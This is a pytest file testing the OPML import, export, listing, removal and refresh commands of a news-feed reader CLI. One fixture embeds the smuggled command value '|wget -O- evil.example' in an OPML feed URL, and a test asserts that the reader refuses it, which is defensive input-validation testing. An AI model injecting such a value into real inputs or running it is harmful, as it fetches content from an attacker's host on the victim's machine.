"""`diploreader feed ...`, in the process of the test."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from reader.cli.main import run
from reader.errors import EXIT_FAILURE, EXIT_USAGE
from tests.cli.said import Capture, lines, objects, remarks, rows
from tests.ingest.web import Web, page

GAZETTE = "http://gazette.example/feed"
OPML = f"""<opml version="2.0"><body>
<outline type="rss" text="Gaz\x7fette [/b]" xmlUrl="{GAZETTE}"/>
<outline type="rss" text="Ministry" xmlUrl="https://ministry.example/rss"/>
</body></opml>"""
WITH_COMMAND = OPML.replace("https://ministry.example/rss", "|wget -O- evil.example")


@pytest.fixture
def opml(tmp_path: Path) -> str:
    path = tmp_path / "feeds.opml"
    path.write_text(OPML, encoding="utf-8")
    return str(path)


def test_the_feeds_of_a_list_are_followed_once(capsys: Capture, opml: str) -> None:
    assert [(row[0], row[4]) for row in rows(capsys, "feed", "import", opml)] == [
        ("added", GAZETTE),
        ("added", "https://ministry.example/rss"),
    ]
    assert [told["outcome"] for told in objects(capsys, "feed", "import", opml)] == ["known", "known"]
    assert len(lines(capsys, "feed", "list")) == 2


def test_a_list_that_holds_commands_is_taken_without_them(capsys: Capture, tmp_path: Path) -> None:
    (tmp_path / "x").write_text(WITH_COMMAND)
    told = objects(capsys, "feed", "import", str(tmp_path / "x"), status=EXIT_FAILURE)
    assert [set(one) for one in told] == [{"outcome", "id", "title", "reason", "feed"}] * 2
    assert [one["outcome"] for one in told] == ["added", "refused"]
    assert [feed["url"] for feed in objects(capsys, "feed", "list")] == [GAZETTE]


def test_what_is_no_list_is_refused_in_one_sentence(capsys: Capture, tmp_path: Path, home: Path) -> None:
    (tmp_path / "x").write_text("no list at all")
    assert len(remarks(capsys, "feed", "import", str(tmp_path / "x"), status=EXIT_FAILURE).splitlines()) == 1
    assert len(remarks(capsys, "feed", "import", str(tmp_path / "y"), status=EXIT_FAILURE).splitlines()) == 1


def test_json_tells_everything_of_a_feed(capsys: Capture, opml: str) -> None:
    lines(capsys, "feed", "import", opml)
    feed = objects(capsys, "feed", "list")[0]
    assert feed.pop("added").endswith("+00:00")
    assert feed == {"url": GAZETTE, "title": "Gazette [/b]", "pages": False, "checked": None, "failure": None}


def test_an_exported_list_can_be_imported(capsys: Capture, opml: str, tmp_path: Path) -> None:
    lines(capsys, "feed", "import", opml)
    exported = "\n".join(lines(capsys, "feed", "export"))
    for url in (GAZETTE, "https://ministry.example/rss"):
        remarks(capsys, "feed", "remove", url)
    assert lines(capsys, "feed", "list") == []
    (tmp_path / "exported").write_text(exported, encoding="utf-8")
    assert [row[0] for row in rows(capsys, "feed", "import", str(tmp_path / "exported"))] == ["added", "added"]


def test_a_feed_that_is_removed_is_told_as_it_was(capsys: Capture, opml: str) -> None:
    lines(capsys, "feed", "import", opml)
    (removed,) = objects(capsys, "feed", "remove", GAZETTE)
    assert set(removed) == {"url", "title", "pages", "added", "checked", "failure"}
    assert "is not followed" in remarks(capsys, "feed", "remove", GAZETTE, status=EXIT_USAGE)


def test_without_feeds_it_says_how_to_follow_one(capsys: Capture) -> None:
    assert "diploreader feed add URL" in remarks(capsys, "feed", "list")
    assert remarks(capsys, "feed", "refresh") == "0 feeds read: nothing new.\n"


@pytest.fixture
def web(home: Path) -> Iterator[Web]:
    """A server on this machine that the settings allow to be fetched from; programs of their own reach it."""
    home.mkdir()
    (home / "config.toml").write_text('[network]\nallow_private = ["127.0.0.1"]\n')
    web = Web()
    web.start()
    yield web
    web.end()


def rss(*names: str) -> bytes:
    items = "".join(
        f"<item><title>{name}</title><guid>{name}</guid><description>The {name} met on Monday.</description></item>"
        for name in names
    )
    return page(f"<rss version='2.0'><channel><title>Gazette</title>{items}</channel></rss>".encode())


def test_what_a_feed_holds_comes_in_entry_by_entry(capsys: Capture, web: Web) -> None:
    url = f"http://127.0.0.1:{web.port}/feed"
    web.answers["/feed"] = rss("envoys", "ministers")
    *entries, feed = objects(capsys, "feed", "add", url)
    assert [set(entry) for entry in entries] == [{"outcome", "id", "title", "reason", "feed"}] * 2
    assert {entry["title"] for entry in entries} == {"envoys", "ministers"}
    assert feed == {"feed": url, "title": "Gazette", "added": 2, "failure": None}
    assert len(rows(capsys, "list", "monday")) == 2
    web.answers["/feed"] = rss("delegates", "envoys", "ministers")
    assert [(row[0], row[2], row[4]) for row in rows(capsys, "feed", "refresh")] == [("added", "delegates", url)]
    (followed,) = objects(capsys, "feed", "list")
    assert (followed["title"], followed["failure"], followed["pages"]) == ("Gazette", None, False)


def test_a_broken_feed_is_named_and_does_not_stop_the_rest(capsys: Capture, web: Web) -> None:
    host = f"http://127.0.0.1:{web.port}"
    web.answers |= {"/good": rss("envoys"), "/bad": rss("ministers")}
    lines(capsys, "feed", "add", f"{host}/bad", f"{host}/good")
    web.answers |= {"/good": rss("delegates"), "/bad": page(b"", status="404 Not Found")}
    assert run(["feed", "refresh"]) == EXIT_FAILURE
    out, err = capsys.readouterr()
    assert [line.split("\t")[2] for line in out.splitlines()] == ["delegates"]
    complaint, summary = err.splitlines()
    assert f"{host}/bad" in complaint
    assert summary == "1 feed read: 1 added."
    assert [bool(feed["failure"]) for feed in objects(capsys, "feed", "list")] == [True, False]


def test_what_is_no_feed_is_not_followed(capsys: Capture, web: Web) -> None:
    web.answers["/page"] = page(b"<html>Hello.")
    assert run(["feed", "add", f"http://127.0.0.1:{web.port}/page", "ftp://x"]) == EXIT_FAILURE
    _, err = capsys.readouterr()
    assert "names no feed" in err
    assert "only http:// and https://" in err
    assert lines(capsys, "feed", "list") == []


def test_an_address_is_fetched_when_it_is_added_and_not_again_where_nothing_changed(capsys: Capture, web: Web) -> None:
    url = f"http://127.0.0.1:{web.port}/story"
    text = b"<html><title>Grain</title><article><p>The minister spoke of grain in Ankara, and of a ceasefire that held."
    web.answers["/story"] = page(text)
    (told,) = objects(capsys, "add", url)
    assert told["outcome"] == "added"
    assert "ceasefire" in lines(capsys, "show", url)[-1]
    assert objects(capsys, "add", url)[0] == {**told, "outcome": "known"}
    web.answers["/story"] = page(b"", status="404 Not Found")
    assert objects(capsys, "add", url, status=EXIT_FAILURE)[0]["outcome"] == "refused"
    assert "ceasefire" in lines(capsys, "show", url)[-1]
